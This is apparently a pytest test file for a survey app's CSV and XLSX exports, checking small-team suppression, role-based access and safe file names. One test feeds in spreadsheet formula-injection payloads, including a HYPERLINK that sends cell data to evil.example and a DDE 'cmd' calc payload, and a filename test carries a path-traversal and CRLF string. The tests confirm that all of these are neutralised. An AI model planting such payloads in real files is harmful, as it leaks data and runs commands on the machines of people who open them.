"""CSV and XLSX exports: suppressed aggregates only, safe to open, for leaders of the org only."""

from __future__ import annotations

import io
import re
import secrets
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.campaigns.services import close_campaign
from survey_app.extensions import db
from survey_app.models import Response
from survey_app.surveys.submission import submit_response
from tests import factories
from tests.export_tables import csv_tables, csv_text

FILENAME = re.compile(r'^attachment; filename="campaign-\d+-[a-z0-9_-]+(-csv\.zip|\.xlsx)"$')
CSV = "export-csv.zip"  # the CSV export: a zip of CSV files, one per table


def _answer(campaign, team, importance: int, execution: int, ticked: bool, times: int) -> None:
    for _ in range(times):
        invitation = factories.make_invitation(campaign, team=team)
        answers = factories.complete_answers(campaign, importance=importance, execution=execution)
        if ticked:
            answers.update({k: 1 for k in answers if k.endswith("__present")})
        submit_response(invitation.id, answers, None, secrets.token_hex(8))


@pytest.fixture
def campaign(org):
    """k = 5. Sales 6 responses, Support 5, Tiny 2: Tiny is too small and Support, the next
    smallest, is hidden with it so that the total minus Sales does not isolate Tiny."""
    company = factories.make_company(org, name="Acme", teams=("Sales", "Support", "Tiny"))
    sales, support, tiny = company.teams[0], company.teams[1], company.teams[2]
    campaign = factories.make_campaign(company, title="Spring wave", k=5)
    _answer(campaign, sales, importance=8, execution=3, ticked=False, times=6)
    _answer(campaign, support, importance=6, execution=2, ticked=False, times=5)
    # Only Tiny answers "never" (Execution 0 %) and ticks every enemy (Culture Risk 100).
    _answer(campaign, tiny, importance=1, execution=1, ticked=True, times=2)
    close_campaign(campaign)  # closed: every response shown (an open one shows its snapshot)
    return campaign


def _sections(body: bytes) -> dict[str, list[list[str]]]:
    """The CSV zip read back into {table name: [header, *rows]}, one file per table."""
    return csv_tables(body)


def _by_name(table: list[list[str]]) -> dict[str, dict[str, str]]:
    header, *rows = table
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def test_csv_holds_the_suppressed_aggregates(leader_client, campaign):
    response = leader_client.get(f"/campaigns/{campaign.id}/{CSV}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/zip"
    assert response.headers["Cache-Control"] == "no-store"
    assert FILENAME.match(response.headers["Content-Disposition"])
    assert "spring-wave" in response.headers["Content-Disposition"]

    sections = _sections(response.data)
    assert list(sections) == [
        "Headline",
        "Practices",
        "Categories",
        "Enemies",
        "Recommendations",
        "Teams",
    ]
    headline = {row[0]: row[1] for row in sections["Headline"][1:]}
    assert headline["Responses"] == "13"
    assert headline["Response rate %"] == "100.0"
    assert float(headline["Teamwork Index"]) > 0
    assert headline["Culture Risk band"] in {"Healthy", "At risk", "Toxic"}

    practices = sections["Practices"]
    assert practices[0][:4] == ["Category", "Practice", "Importance %", "Execution %"]
    assert len(practices) == 1 + 9
    assert {row[-1] for row in practices[1:]} == {"13"}
    assert len(sections["Categories"]) == 1 + 4
    assert len(sections["Enemies"]) == 1 + 20

    teams = _by_name(sections["Teams"])
    assert teams["Sales"]["Shown"] == "yes"
    assert teams["Sales"]["Responses"] == "6"
    assert float(teams["Sales"]["Teamwork Index"]) == pytest.approx(66.7)
    assert teams["Tiny"]["Hidden because"] == "fewer than 5 responses"
    assert teams["Support"]["Hidden because"] == "hidden to protect another group"


def test_a_team_of_two_exports_no_number(leader_client, campaign):
    sections = _sections(leader_client.get(f"/campaigns/{campaign.id}/{CSV}").data)
    teams = _by_name(sections["Teams"])
    for name in ("Tiny", "Support"):
        row = teams[name]
        assert row["Shown"] == "no"
        numbers = {k: v for k, v in row.items() if k not in {"Team", "Shown", "Hidden because"}}
        assert set(numbers.values()) == {""}, (name, numbers)
    # Nothing anywhere carries Tiny's own scores (Execution 0 %, Culture Risk 100).
    for table in sections.values():
        for row in table[1:]:
            assert "100.0" not in row or row[0] == "Response rate %", row


def test_xlsx_has_one_sheet_per_table_and_hidden_teams_are_empty(leader_client, campaign):
    response = leader_client.get(f"/campaigns/{campaign.id}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert response.headers["Cache-Control"] == "no-store"
    assert FILENAME.match(response.headers["Content-Disposition"])

    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [
        "Headline",
        "Practices",
        "Categories",
        "Enemies",
        "Recommendations",
        "Teams",
    ]
    rows = list(book["Teams"].iter_rows(values_only=True))
    header, by_name = rows[0], {row[0]: row for row in rows[1:]}
    assert by_name["Sales"][header.index("Responses")] == 6
    assert by_name["Tiny"][:3] == ("Tiny", "no", "fewer than 5 responses")
    assert set(by_name["Tiny"][3:]) == {None}
    assert set(by_name["Support"][3:]) == {None}
    practices = list(book["Practices"].iter_rows(values_only=True))
    assert all(row[-1] == 13 for row in practices[1:])
    assert all(isinstance(row[practices[0].index("Importance %")], float) for row in practices[1:])


def test_exports_hold_aggregate_rows_only(app, leader_client, campaign):
    exports = {r.rule for r in app.url_map.iter_rules() if r.endpoint.startswith("exports.")}
    assert exports == {
        "/campaigns/<int:campaign_id>/export-csv.zip",
        "/campaigns/<int:campaign_id>/export.xlsx",
    }
    csv_body = leader_client.get(f"/campaigns/{campaign.id}/{CSV}").data
    xlsx_body = leader_client.get(f"/campaigns/{campaign.id}/export.xlsx").data
    sheets = b"".join(
        zipfile.ZipFile(io.BytesIO(xlsx_body)).read(name)
        for name in zipfile.ZipFile(io.BytesIO(xlsx_body)).namelist()
    )
    csv_files = csv_text(csv_body)  # the zip's files uncompressed: what a reader sees
    for response_id, nonce in db.session.execute(select(Response.id, Response.nonce)):
        for secret in (response_id, nonce):
            assert secret.encode() not in csv_files
            assert secret.encode() not in sheets
    # Row counts are fixed by the instruments and the teams, not by the 13 responses.
    sections = _sections(csv_body)
    assert {name: len(rows) - 1 for name, rows in sections.items()} == {
        "Headline": 12,  # with "Why this band"
        "Practices": 9,
        "Categories": 4,
        "Enemies": 20,
        "Recommendations": len(sections["Recommendations"]) - 1,
        "Teams": 3,
    }
    assert len(sections["Recommendations"]) - 1 <= 9 + 20


def test_a_campaign_under_k_exports_the_headline_and_a_note(leader_client, org):
    company = factories.make_company(org, teams=("Sales",))
    campaign = factories.make_campaign(company, k=5)
    _answer(campaign, company.teams[0], importance=9, execution=4, ticked=True, times=4)

    sections = _sections(leader_client.get(f"/campaigns/{campaign.id}/{CSV}").data)
    assert list(sections) == ["Headline"]
    headline = {row[0]: row[1] for row in sections["Headline"][1:]}
    assert headline["Note"].startswith("Fewer than 5 responses")
    assert not {"Teamwork Index", "Culture Risk Index", "Culture Risk band"} & set(headline)

    book = load_workbook(
        io.BytesIO(leader_client.get(f"/campaigns/{campaign.id}/export.xlsx").data)
    )
    assert book.sheetnames == ["Headline"]


INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+1+2", "-2+3", "\t=1+1")


def test_formula_injection_is_neutralised(leader_client, org):
    company = factories.make_company(org, name=INJECTIONS[0], teams=INJECTIONS[1:])
    campaign = factories.make_campaign(company, title="=cmd|' /C calc'!A0", k=3)
    for team in company.teams:
        _answer(campaign, team, importance=7, execution=3, ticked=False, times=3)

    csv_body = leader_client.get(f"/campaigns/{campaign.id}/{CSV}")
    assert csv_body.status_code == 200
    sections = _sections(csv_body.data)
    headline = {row[0]: row[1] for row in sections["Headline"][1:]}
    assert headline["Company"] == "'" + INJECTIONS[0]
    assert headline["Campaign"] == "'=cmd|' /C calc'!A0"
    team_names = {row[0] for row in sections["Teams"][1:]}
    assert team_names == {"'" + name for name in INJECTIONS[1:]}
    for table in sections.values():
        for row in table:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell

    xlsx = leader_client.get(f"/campaigns/{campaign.id}/export.xlsx")
    assert xlsx.headers["Content-Disposition"].endswith('-cmd-c-calc-a0.xlsx"')
    book = load_workbook(io.BytesIO(xlsx.data))
    company_cell = book["Headline"]["B2"]
    assert company_cell.value == "'" + INJECTIONS[0]
    assert company_cell.data_type == "s"
    team_cells = [row[0] for row in book["Teams"].iter_rows(min_row=2)]
    assert {c.value for c in team_cells} == {"'" + name for name in INJECTIONS[1:]}
    assert {c.data_type for c in team_cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def test_download_name_is_safe_whatever_the_title(leader_client, org):
    company = factories.make_company(org)
    campaign = factories.make_campaign(company, title='Q3 "wave"\r\n../../etc/passwd; x=é')
    response = leader_client.get(f"/campaigns/{campaign.id}/{CSV}")
    disposition = response.headers["Content-Disposition"]
    assert FILENAME.match(disposition.split("; filename*=")[0]), disposition
    assert disposition == (  # the real name in filename* (RFC 6266), its ASCII form beside it
        f'attachment; filename="campaign-{campaign.id}-q3-wave-etc-passwd-x-e-csv.zip"; '
        f"filename*=UTF-8''campaign-{campaign.id}-q3-wave-etc-passwd-x-%C3%A9-csv.zip"
    )


# One signed-in client per test: the clients of one test share the app context, and with it
# the user Flask-Login caches in ``g``.
SUFFIXES = pytest.mark.parametrize("suffix", ["-csv.zip", ".xlsx"])


@SUFFIXES
def test_a_leader_exports_own_campaigns_only(leader_client, org, other_org, suffix):
    mine = factories.make_campaign(factories.make_company(org))
    theirs = factories.make_campaign(factories.make_company(other_org))
    assert leader_client.get(f"/campaigns/{mine.id}/export{suffix}").status_code == 200
    assert leader_client.get(f"/campaigns/{theirs.id}/export{suffix}").status_code == 404
    assert leader_client.get(f"/campaigns/999999/export{suffix}").status_code == 404


@SUFFIXES
def test_an_admin_may_export(admin_client, org, suffix):
    mine = factories.make_campaign(factories.make_company(org))
    assert admin_client.get(f"/campaigns/{mine.id}/export{suffix}").status_code == 200


@SUFFIXES
def test_a_rep_may_not_export(rep_client, org, suffix):
    mine = factories.make_campaign(factories.make_company(org))
    assert rep_client.get(f"/campaigns/{mine.id}/export{suffix}").status_code == 403


@SUFFIXES
def test_signed_out_visitors_are_sent_to_sign_in(client, org, suffix):
    mine = factories.make_campaign(factories.make_company(org))
    response = client.get(f"/campaigns/{mine.id}/export{suffix}")
    assert response.status_code == 302
    assert "/auth/login" in response.headers["Location"]


def test_the_csv_export_is_one_table_per_file(leader_client, campaign):
    """A spreadsheet opens each file as one clean table: header first, every row as wide, no
    section titles or blank rows; the zip names them in the export's order and holds no time."""
    response = leader_client.get(f"/campaigns/{campaign.id}/{CSV}")
    assert response.headers["Content-Type"] == "application/zip"  # one type, no parameters
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert archive.namelist() == [
            "01-headline.csv",
            "02-practices.csv",
            "03-categories.csv",
            "04-enemies.csv",
            "05-recommendations.csv",
            "06-teams.csv",
        ]
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    tables = csv_tables(response.data)  # checks the shape of each file
    assert tables["Headline"][0] == ["Measure", "Value"]
    assert tables["Enemies"][0][:2] == ["Enemy", "Ticked by"]
    book = load_workbook(
        io.BytesIO(leader_client.get(f"/campaigns/{campaign.id}/export.xlsx").data)
    )
    assert list(tables) == book.sheetnames  # the same tables as the workbook's sheets
    for name, rows in tables.items():
        sheet = [["" if v is None else str(v) for v in row] for row in book[name].values]
        assert len(rows) == len(sheet), name
        assert rows[0] == sheet[0], name
